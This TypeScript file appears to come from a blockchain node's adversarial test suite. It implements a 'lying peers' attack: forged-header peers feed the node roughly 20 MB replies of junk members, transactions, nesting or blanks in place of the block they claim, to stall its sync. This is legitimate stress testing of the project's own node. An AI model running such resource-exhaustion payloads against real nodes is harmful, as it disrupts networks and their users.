/** Attackers with the keys of a delegate: peers that claim a block and send something else. */
import { once } from "node:events";
import { setTimeout as sleep } from "node:timers/promises";
import {
  type BlockHeader,
  createSlots,
  encodeBlock,
  forgeBlock,
  headerToJson,
  type Network,
} from "@uniknode/protocol";
import { WebSocketServer } from "ws";
import { headerFromPeer } from "../../../../src/peers/peer-table.ts";
import { connectPeer } from "../../../../src/peers/transport/connection.ts";
import type { ReceivedHeader } from "../../../../src/peers/wire/replies.ts";
import type { Attack, Attacker } from "../attacker.ts";
import { hostileDelegate, startForging, type Target } from "../node.ts";
import { inTurn } from "../requests.ts";
import { Accounts } from "../transactions.ts";

type Status = { readonly state: { readonly header: ReceivedHeader }; readonly config: object };

const LIMITS = { timeoutMs: 5_000, maxBytes: 20_000_000 };

const connectFrom = ({ host, peerPort }: Target, localAddress: string) =>
  connectPeer({ address: host, port: peerPort, localAddress }).catch(() => undefined);

/** Just below the longest reply with blocks. */
const REPLY_LENGTH = 20_900_000;

const repeated = (text: string, length: number): string => text.repeat(Math.floor(length / text.length));

/** Returns the JSON of a block: that of its header, with more members. */
const blockWith = (header: string, members: string): string => `${header.slice(0, -1)},${members}}`;

type Reply = (header: string) => string;

/** A reply with one block whose transactions are repeated, without the last one. */
const transactions =
  (text: string, length: number, last: string): Reply =>
  (header) =>
    `[${blockWith(header, `"transactions":[${repeated(text, length)}${last}]`)}]`;

/** The most expensive replies with blocks, from the JSON of the header of the claimed block. */
const REPLIES: readonly Reply[] = [
  // Members that no block has.
  (header) => `[${blockWith(header, `${repeated('"x":[],', REPLY_LENGTH / 4)}"y":0`)}]`,
  // As many transactions as the reply has space for: without bytes, of one byte, and one of all bytes.
  transactions('"",', REPLY_LENGTH / 4, '""'),
  transactions('"ff",', REPLY_LENGTH, '"ff"'),
  ...["ff", "\\n"].map((text) => transactions("", 0, `"${repeated(text, REPLY_LENGTH)}"`)),
  // As many blocks as a reply may have, each with transactions.
  (header) => {
    const some = repeated(`"${"ff".repeat(500)}",`, REPLY_LENGTH / 400 - 2_000);
    return `[${Array(400).fill(blockWith(header, `"transactions":[${some}"ff"]`))}]`;
  },
  // Nested, and blank.
  (header) =>
    `[${blockWith(header, `"x":${"[".repeat(60)}${"]".repeat(60)}`)},${repeated("[],", REPLY_LENGTH)}0]`,
  () => `[${repeated(" ", REPLY_LENGTH)}]`,
];

const HANDSHAKE_REPLY =
  '{"rid":1,"data":{"id":"q900mXXGCbwsc0pmAAAA","pingTimeout":60000,"isAuthenticated":false}}';

type Call = { event: string; cid: number; data: { data: { headersOnly?: boolean } } };

/** Replies of a peer as JSON by the name of the request, and the headers of all. */
type Replies = ReadonlyMap<string, string>;

/** Replies of a peer that passes the verification: the status is that of the honest node with another head. */
function toReplies(honest: Status, common: BlockHeader, head: BlockHeader, blocks: string): Replies {
  const { uniknode: _, ...config } = honest.config as Record<string, unknown>;
  const [{ height }, header] = [head, headerToJson(head)];
  return new Map([
    ["p2p.peer.getStatus", JSON.stringify({ state: { ...honest.state, height, header }, config })],
    ["p2p.peer.getCommonBlocks", JSON.stringify({ common: headerToJson(common), lastBlockHeight: height })],
    ["headersOnly", JSON.stringify([header])],
    ["headers", JSON.stringify({ version: "5.7.2", height })],
    ["p2p.peer.getBlocks", blocks],
  ]);
}

async function startLyingPeer(address: { readonly host: string; readonly port: number }, replies: Replies) {
  let requests = 0;
  const server = new WebSocketServer({ ...address, perMessageDeflate: false, autoPong: false });
  server.on("connection", (socket) => {
    // The node closes connections of peers that lie.
    socket.on("error", () => {});
    socket.on("message", (bytes) => {
      const text = String(bytes);
      if (text.includes('"#handshake"')) return socket.send(HANDSHAKE_REPLY);
      if (!text.includes('"cid"')) return;
      const { event, cid, data } = JSON.parse(text) as Call;
      const isOfBlocks = event === "p2p.peer.getBlocks";
      const name = isOfBlocks && data.data.headersOnly ? "headersOnly" : event;
      if (isOfBlocks && name === event) requests++;
      const reply = `{"data":${replies.get(name) ?? "[]"},"headers":${replies.get("headers")}}`;
      socket.send(`{"rid":${cid},"data":${reply}}`);
    });
  });
  await once(server, "listening");
  return {
    requests: () => requests,
    close() {
      for (const socket of server.clients) socket.terminate();
      server.close();
    },
  };
}

const OBSERVE_MS = 500;
/** Addresses of this machine can become peers of the node. */
const LOOPBACK = ["--p2p-host", "127.0.0.1", "--p2p-loopback"];
/** Seconds of a slot: the node asks a peer for blocks twice, 2 s apart, within the slot of their delegate. */
const BLOCKTIME = 8;
/** Time after which a slot without a block is that of their delegate. */
const FORGING_MS = 800;
/** Time in which the node dials, verifies and asks a peer. */
const LIFETIME_MS = 12_000;
const PEERS = 12;

/** Returns the time of the current slot, if it is that of the delegate; undefined if not, or if it has its block. */
function freeSlotTime(network: Network, previous: BlockHeader): number | undefined {
  const slots = createSlots(network);
  const slot = slots.slotAt(slots.timeAt(Date.now()));
  const timestamp = slots.slotTime(slot);
  const isForged = slot === slots.slotAt(previous.timestamp);
  return isForged || Date.now() - slots.unixMsOf(timestamp) < FORGING_MS ? undefined : timestamp;
}

/** Makes the node dial the address, and then search for blocks that it does not have. */
async function introduce(target: Target, from: string, block: Uint8Array): Promise<void> {
  const connection = await connectFrom(target, from);
  await connection?.call("p2p.peer.getPeers", {}, LIMITS).catch(() => undefined);
  await sleep(200);
  await connection?.call("p2p.peer.postBlock", { block }, LIMITS).catch(() => undefined);
  connection?.close();
}

/** Each peer sends 20 MB of members, transactions or blanks instead of the block that it claims. */
async function lie(attacker: Attacker): Promise<void> {
  const { target } = attacker;
  const { network } = new Accounts(attacker);
  const { keys } = hostileDelegate(target);
  // The node dials its callers: the status is requested from an address that does not listen.
  const observer = attacker.address(255, 1);
  let honest: Status | undefined;
  const observing = attacker.repeat({ pauseMs: OBSERVE_MS }, async () => {
    const connection = await connectFrom(target, observer);
    const reply = await connection?.call("p2p.peer.getStatus", {}, LIMITS).catch(() => undefined);
    connection?.close();
    honest = reply?.result as Status | undefined;
  });
  let count = 0;
  const nextReply = inTurn(REPLIES);
  await attacker.repeat({ atOnce: PEERS, pauseMs: 100 }, async () => {
    if (!honest) return;
    const previous = headerFromPeer(honest.state.header, network);
    const timestamp = freeSlotTime(network, previous);
    if (timestamp === undefined) return;
    const number = count++;
    // Four in each subnet.
    const host = attacker.address(number >> 2, 1 + (number & 3));
    const { header } = forgeBlock({ network, timestamp, previous, transactions: [] }, keys);
    const blocks = nextReply()(JSON.stringify(headerToJson(header)));
    const replies = toReplies(honest, previous, header, blocks);
    const peer = await startLyingPeer({ host, port: target.peerPort }, replies);
    const unknown = { ...previous, height: previous.height + 1, id: "ab".repeat(32) };
    const unchained = forgeBlock({ network, timestamp, previous: unknown, transactions: [] }, keys);
    await introduce(target, host, encodeBlock(unchained, network));
    await sleep(LIFETIME_MS);
    attacker.offered(peer.requests());
    peer.close();
  });
  await observing;
}

export const BLOCKS: Readonly<Record<string, Attack>> = {
  "lying peers": {
    start: () => startForging({ options: LOOPBACK, blocktime: BLOCKTIME }),
    // The delegate of the attackers has one slot in each round of five.
    minMs: 11 * 1_000 * BLOCKTIME,
    // The node has no honest peers: it waits for the block that all its peers claim, until it has suspended them.
    expectedMiss: "behind",
    run: lie,
  },
};
